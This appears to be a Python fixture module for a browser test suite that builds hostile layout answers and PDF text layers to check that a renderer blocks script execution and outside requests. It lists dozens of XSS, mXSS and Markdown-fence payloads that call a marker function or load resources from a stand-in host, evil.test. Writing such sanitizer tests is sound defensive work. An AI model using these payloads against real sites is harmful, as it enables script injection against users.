"""Hostile material for the browser suite: model answers and PDF text layers that try to run script or
make requests. Every payload calls `__pwned(tag)` (or reaches http://evil.test/) so a hit is named."""

from __future__ import annotations

import json
from pathlib import Path

import pymupdf

EVIL = "http://evil.test"
PAYLOADS = [
    "<script>__pwned('script')</script>",
    "<img src=x onerror=__pwned('img')>",
    "<svg onload=__pwned('svg')></svg>",
    "<iframe srcdoc=\"<script>parent.__pwned('srcdoc')</script>\"></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    "<a href=\"javascript:__pwned('href')\">click</a>",
    "<details open ontoggle=__pwned('details')>x</details>",
    "<body onload=__pwned('body')>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<style>@import '{EVIL}/i.css';</style>",
    f"<div style=\"background:url({EVIL}/bg.png)\">bg</div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned('mxss')>",
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned('noscript')>\">",
    "<object data=\"javascript:__pwned('object')\"></object>",
    f"<meta http-equiv=refresh content=\"0;url={EVIL}/refresh\">",
    f"<base href={EVIL}/>",
    "<scr<script>ipt>__pwned('split')</scr</script>ipt>",
    "<input autofocus onfocus=__pwned('focus')>",
    "<video><source onerror=__pwned('video')></video>",
    "<!--><img src=x onerror=__pwned('comment')>-->",
    "--><img src=x onerror=__pwned('close-comment')>",
    "<b onmouseover=__pwned('attr-on-allowed')>hover</b>",
    "<sup><img src=x onerror=__pwned('nested')></sup>",
    "<![CDATA[<img src=x onerror=__pwned('cdata')>]]>",
    "<?xml-stylesheet href=\"" + EVIL + "/x.xsl\"?>",
    "<form action=\"javascript:__pwned('form')\"><button autofocus>go</button></form>",
    "<a href=\"&#106;avascript:__pwned('entity-href')\">x</a>",
]
MARKDOWN = [
    "```x`y\n<img src=x onerror=__pwned('fence-backtick-info')>\n```",
    "text\u2028```\n<img src=x onerror=__pwned('u2028')>\n```",
    "text\x85```\n<img src=x onerror=__pwned('u0085')>\n```",
    "<b>tag</b>\n```\n<img src=x onerror=__pwned('tag-before-fence')>\n```",
    "~~~x~\n<img src=x onerror=__pwned('tilde')>",
    "````\n```\n````\n<img src=x onerror=__pwned('fence-lengths')>",
    "- ```\n  <img src=x onerror=__pwned('list-fence')>\n  ```",
    "`<img src=x onerror=__pwned('code-span')>` and ``a`<svg onload=__pwned('code2')>``",
    "[click](javascript:__pwned('md-link'))",
    f"![img]({EVIL}/md.png)",
    f"[r]: {EVIL}/ref.png\n\n![r]",
    f"- [r]: {EVIL}/ref2.png\n\n![r]",
    f"<{EVIL}/autolink>",
    "\\<img src=x onerror=__pwned('backslash')>",
    "# H {: onclick=__pwned('attr-list') }",
    "    <img src=x onerror=__pwned('indented')>",
    "&lt;img src=x onerror=__pwned('entity')&gt; &#60;script&#62;",
]
LATEX = [
    "</script><script>__pwned('latex')</script>",
    "a<b>c</b> \\href{javascript:__pwned('href-tex')}{x}",
    f"x\n\n![t]({EVIL}/tex.png)\n```\n<img src=x onerror=__pwned('tex-fence')>",
    "$x$, $y$ <img src=x onerror=__pwned('two-formulas')>",
]

# Text or inline tags beside a table: Python-Markdown read Markdown after `</table>`, and a line starting
# `<span>` was no HTML block at all.
TABLE_BESIDE = [
    f"<span>s</span><table><tr><td>[x](javascript:__pwned('span-table-link')) ![i]({EVIL}/span-table.png)</td></tr></table>",
    f"<table><tr><td>a</td></tr></table>[x](javascript:__pwned('after-table-link')) ![i]({EVIL}/after-table.png)",
]


def _el(category: str, text: str | None, i: int) -> dict:
    el = {"bbox": [20, 20 + 30 * (i % 20), 400, 45 + 30 * (i % 20)], "category": category}
    if text is not None:
        el["text"] = text
    return el


def hostile_answers() -> list[str]:
    """Layout answers, one per page: each payload as Text, in a Table, as Formula, plus broken JSON."""
    answers = []
    for i, p in enumerate(PAYLOADS):
        answers.append(json.dumps([_el("Text", f"before {p} after", 0), _el("Table", f"<table><tr><td>{p}</td></tr></table>", 1),
                                   _el("Caption", p, 2), _el("Picture", None, 3)]))
    for i, m in enumerate(MARKDOWN):
        answers.append(json.dumps([_el("Text", m, 0), _el("List-item", f"- {m}", 1), _el("Section-header", m, 2)]))
    for i, t in enumerate(LATEX):
        answers.append(json.dumps([_el("Formula", t, 0), _el("Text", f"inline ${t}$ math", 1)]))
    answers.append(json.dumps([_el("Table", t, i) for i, t in enumerate(TABLE_BESIDE)]))
    # Broken answers: the damage must not open a hole either.
    answers.append("[" + json.dumps(_el("Text", PAYLOADS[1], 0))[:-1] + ", " + json.dumps(_el("Text", PAYLOADS[0], 1)) + "]")
    answers.append(json.dumps([_el("Table", "<table><tr><td>" + PAYLOADS[2] + "<td></td>" * 300, 0)])[:2000])
    answers.append("I'm sorry --> <img src=x onerror=__pwned('prose')>")
    answers.append("```json\n" + json.dumps([_el("Text", MARKDOWN[0], 0)]) + "\n```")
    return answers


PDF_LINES = [
    ["```x`y", "<img src=x onerror=__pwned('pdf-fence')>", "```", "<script>__pwned('pdf-script')</script>"],
    ["Prose <img src=x onerror=__pwned('pdf-img')> and [l](javascript:__pwned('pdf-link'))",
     f"![x]({EVIL}/pdf.png) <svg onload=__pwned('pdf-svg')>"],
    ["<b>tag</b>", "```", "<iframe srcdoc=\"<script>parent.__pwned('pdf-srcdoc')</script>\"></iframe>", "```"],
    ["-->", "<!-- <img src=x onerror=__pwned('pdf-comment')> -->", "# H {: onclick=__pwned('pdf-attr') }"],
    ["~~~", "<details open ontoggle=__pwned('pdf-details')>x</details>", "$</script><script>__pwned('pdf-math')</script>$"],
]


def hostile_pdf(path: Path, lines: list[str]) -> Path:
    """A one-page PDF whose text layer holds `lines`: prose in Helvetica, the same again in Courier (a listing)."""
    doc = pymupdf.open()
    page = doc.new_page(width=420, height=300)  # small: the embedded engine's layout pass is the slow part
    y = 30.0
    for font in ("helv", "cour"):
        for line in lines:
            page.insert_text((20, y), line, fontname=font, fontsize=8)
            y += 11
        y += 20
    doc.save(path)
    doc.close()
    return path
